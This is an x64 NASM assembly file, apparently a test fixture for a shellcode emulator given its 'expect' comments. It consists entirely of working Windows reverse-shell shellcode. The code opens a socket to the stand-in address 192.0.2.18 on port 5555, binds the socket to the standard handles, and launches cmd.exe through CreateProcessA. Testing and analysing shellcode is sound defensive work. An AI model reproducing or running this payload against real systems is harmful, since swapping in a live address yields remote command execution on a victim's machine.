; SPDX-License-Identifier: GPL-2.0-or-later
; A shell that calls 192.0.2.18, port 5555.
; expect: connect 192.0.2.18 5555
; expect: exec C:\Windows\System32\cmd.exe cmd.exe
%include "way64.inc"
	lea rdi, [rsp + 0x200]
	function "ws2_32.dll", "WSAStartup"
	mov ecx, 0x202
	mov rdx, rdi
	call rax
	function "ws2_32.dll", "WSASocketA"
	mov ecx, 2
	mov edx, 1
	mov r8d, 6
	xor r9d, r9d
	mov qword [rsp + 0x20], 0
	mov qword [rsp + 0x28], 0
	call rax
	mov rsi, rax
	mov dword [rdi], 0xb3150002
	mov dword [rdi + 4], 0x120200c0
	function "ws2_32.dll", "connect"
	mov rcx, rsi
	mov rdx, rdi
	mov r8d, 16
	call rax
	push rdi
	xor eax, eax
	mov ecx, 32
	rep stosq
	pop rdi
	mov byte [rdi], 0x68
	mov dword [rdi + 0x3c], 0x100
	mov [rdi + 0x50], rsi
	mov [rdi + 0x58], rsi
	mov [rdi + 0x60], rsi
	function "kernel32.dll", "CreateProcessA"
	xor ecx, ecx
	lea rdx, [command]
	xor r8d, r8d
	xor r9d, r9d
	mov qword [rsp + 0x20], 1
	mov qword [rsp + 0x28], 0
	mov qword [rsp + 0x30], 0
	mov qword [rsp + 0x38], 0
	mov [rsp + 0x40], rdi
	lea r10, [rdi + 0x80]
	mov [rsp + 0x48], r10
	call rax
	function "kernel32.dll", "ExitProcess"
	xor ecx, ecx
	call rax
command:
	db "cmd.exe", 0
